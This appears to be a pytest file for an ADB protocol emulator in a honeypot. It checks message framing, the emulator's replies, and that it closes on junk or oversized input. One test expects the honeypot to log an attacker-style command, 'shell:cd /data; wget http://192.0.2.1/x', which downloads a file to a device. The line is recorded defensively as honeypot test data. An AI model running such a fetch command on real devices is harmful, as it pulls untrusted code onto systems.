"""ADB: commands are noted and acknowledged."""

from __future__ import annotations

import struct

from darkflow.honeypot.protocols.adb import PAYLOAD_LIMIT, Adb
from talks import CONTEXT, TALKS, adb_message, answers, learnt, said


def commands(reply: bytes) -> list[tuple[bytes, int, int]]:
    """The messages in there, checked: (command, first, second)."""
    found = []
    while reply:
        command, first, second, length, check, magic = struct.unpack_from("<4sIIIII", reply)
        assert magic == int.from_bytes(command, "little") ^ 0xFFFFFFFF
        assert check == sum(reply[24 : 24 + length])
        found.append((command, first, second))
        reply = reply[24 + length :]
    return found


def test_commands_end_at_once_and_files_are_taken() -> None:
    out = said(Adb, *TALKS[Adb])
    assert commands(out[0])[0][0] == b"CNXN"
    assert b"ro.product.model=H96 darkmark;" in out[0]
    assert commands(out[1]) == [(b"OKAY", 1, 5), (b"CLSE", 1, 5)]
    assert commands(out[2]) == [(b"OKAY", 1, 6)]
    assert commands(out[3]) == [(b"OKAY", 1, 6)]
    assert learnt(Adb) == {
        "client": "host::features=x",
        "commands": ["shell:cd /data; wget http://192.0.2.1/x", "sync:"],
    }


def test_parts_and_junk() -> None:
    message = adb_message(b"CNXN", 1, 4096, b"host::\0")
    assert said(Adb, message[:10], message[10:30], message[30:])[:2] == [b"", b""]
    assert Adb(CONTEXT).received(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").close
    assert Adb(CONTEXT).received(adb_message(b"WRTE", 1, 1)[:12] + b"\xff" * 12).close
    big = struct.pack("<4sIIIII", b"WRTE", 1, 1, PAYLOAD_LIMIT + 1, 0, 0xBAABADA8)
    assert Adb(CONTEXT).received(big).close
    assert said(Adb, adb_message(b"XXXX", 0, 0)) == [b""]
    assert answers(Adb(CONTEXT), [adb_message(b"OPEN", 1, 0, b"x") * 600])[-1].close
    assert Adb.recognises(message)
    assert not Adb.recognises(b"OPEN")
